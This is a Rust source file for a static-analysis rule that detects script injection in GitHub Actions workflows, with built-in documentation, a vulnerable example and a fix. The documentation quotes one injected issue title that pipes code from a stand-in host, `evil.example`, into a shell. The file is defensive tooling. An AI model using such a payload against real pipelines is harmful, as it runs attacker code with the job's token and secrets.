//! The rule `template-injection`.

use std::cell::{Cell, OnceCell};

use brattice_finding::{
    Area, Finding, FingerprintInput, Kind, PathRole, PathStep, References, Rule, Severity,
};
use brattice_pipeline::ir::{Job, Step, Work};
use brattice_pipeline::text::Placed;

use crate::{File, RepairBudget, Repository};

mod chain;
mod flow;
mod names;
mod outsider;
mod reach;
mod repair;
mod sink;

use chain::Way;
use reach::Verdict;
use sink::Sink;

/// The rule.
pub(crate) static RULE: Rule = Rule {
    id: "template-injection",
    area: Area::Pipeline,
    class: "injection",
    kind: Kind::Exploit,
    severity: Severity::High,
    summary: "Text that somebody else wrote is pasted into a script before it runs",
    documentation: "\
## What it does
Finds expressions that carry somebody else's text straight into a script: into `run:`, or into an input that an
action runs as code, such as `script` of `actions/github-script`. Expressions are folded first, so that
`format`, `join`, `toJSON`, `||`, `&&` and `['title']` hide nothing. What reaches the script only as a number, a
hash or a fixed word is not reported.

## Why it matters
An expression is replaced by its value before a shell sees the script. An issue with the title
`\"; curl evil.example | sh; \"` then is not data but part of the program, and runs with the job's token and
secrets. Quotes around the expression do not help: the text brings its own.

How bad it is depends on who gets the text in, and the finding says so: anyone, with the token and secrets in
reach (high or critical); the author of a pull request from a fork, whose run holds neither (low); a member who
starts the workflow by hand or another workflow that calls it (hardening).

## Example
```yaml
on: issues
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - run: echo \"New issue ${{ github.event.issue.title }}\"
```

## Use instead
```yaml
on: issues
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - env:
          ISSUE_TITLE: ${{ github.event.issue.title }}
        run: echo \"New issue $ISSUE_TITLE\"
```

## When it is wrong
The condition of a job may keep outsiders out in a way that is not understood here. Comparisons of the author's
role or login, and of a pull request's repository with this one, are understood; a label, a word in a comment or
`github.actor` is no proof of who wrote the text. Text is followed through environment variables that the
definition sets and through inputs that callers in the same repository fill. Through an output or a file it is
not followed: `${{ steps.ID.outputs.NAME }}` in a script is reported as advice of low confidence.

## References
- <https://docs.github.com/en/actions/concepts/security/script-injections>
- <https://owasp.org/www-project-top-10-ci-cd-security-risks/CICD-SEC-04-Poisoned-Pipeline-Execution>
",
    references: References {
        cwe: &["CWE-94", "CWE-78"],
        cicd_sec: &["CICD-SEC-4"],
        atlas: &[],
        slsa: &["(E) build process"],
    },
};

/// An interpolation that was judged.
struct Hit<'a> {
    sink: &'a Sink<'a>,
    placed: &'a Placed,
    verdict: Verdict,
}

/// Looks at every script, and at every input that an action runs.
pub(crate) fn check(repository: &Repository<'_>, file: &File<'_>, findings: &mut Vec<Finding>) {
    // Most files have no expression in any script; what starts a file is only looked up for the others.
    let (starts, ways) = (OnceCell::new(), OnceCell::new());
    let mut budget = RepairBudget::of(file);
    let (followed, evaluated) = (Cell::new(flow::FOLLOWED_MAX), flow::Evaluated::default());
    for job in &file.pipeline.jobs {
        let secrets = OnceCell::new();
        for step in &job.steps {
            let sinks = sink::of(step);
            if sinks.iter().all(|it| it.text.expressions.is_empty()) {
                continue;
            }
            let starts = starts.get_or_init(|| repository.starts(file));
            let ways = ways
                .get_or_init(|| starts.iter().filter_map(|it| Way::of(repository, it)).collect::<Vec<_>>());
            let scene = reach::Scene {
                repository,
                file,
                job,
                step,
                ways,
                secrets: &secrets,
                budget: &followed,
                evaluated: &evaluated,
            };
            let mut hits = Vec::new();
            for sink in &sinks {
                for placed in &sink.text.expressions {
                    if let Some(verdict) = reach::judge(&scene, sink.text, placed) {
                        hits.push(Hit { sink, placed, verdict });
                    }
                }
            }
            if let Work::Script(script) = &step.work {
                repair::drop_enclosed(script, &mut hits);
            }
            report(file, job, step, &hits, &mut budget, findings);
        }
    }
}

/// Makes the findings of one step. Its repairs are made together: they share one `env`.
fn report(
    file: &File<'_>,
    job: &Job,
    step: &Step,
    hits: &[Hit<'_>],
    budget: &mut RepairBudget,
    findings: &mut Vec<Finding>,
) {
    let repairs = repair::of_step(file, job, step, hits, budget);
    for (hit, repair) in hits.iter().zip(repairs) {
        let source = file.text.get(hit.placed.span.range()).unwrap_or("");
        let context = File::identity(job, Some(step));
        let mut finding = Finding::new(
            &RULE,
            message(hit),
            file.location(hit.placed.span, Some(file.symbol(job, Some(step)))),
            FingerprintInput::new(context, source),
        );
        finding.kind = hit.verdict.kind;
        finding.severity = hit.verdict.severity;
        finding.confidence = hit.verdict.confidence;
        finding.path = path(file, job, step, hit);
        finding.fixes.extend(repair.fix);
        finding.help.extend(repair.help);
        findings.push(finding);
    }
}

fn message(hit: &Hit<'_>) -> String {
    format!("`{}` is pasted into {}: {}", hit.verdict.what, hit.sink.what, hit.verdict.who)
}

/// Tells the way from the event through calls and guards into the script.
fn path(file: &File<'_>, job: &Job, step: &Step, hit: &Hit<'_>) -> Vec<PathStep> {
    let mut path = Vec::new();
    if let Some((location, text)) = &hit.verdict.source {
        path.push(PathStep { role: PathRole::Source, text: text.clone(), location: location.clone() });
    }
    for location in &hit.verdict.calls {
        let text = "which calls this definition".to_owned();
        path.push(PathStep { role: PathRole::Hop, text, location: location.clone() });
    }
    for guard in &hit.verdict.guards {
        let text = "this condition may keep some people out".to_owned();
        path.push(PathStep { role: PathRole::Guard, text, location: guard.clone() });
    }
    let location = file.location(hit.placed.span, Some(file.symbol(job, Some(step))));
    let text = format!("becomes part of {}{}", hit.sink.what, hit.verdict.holding);
    path.push(PathStep { role: PathRole::Sink, text, location });
    path
}
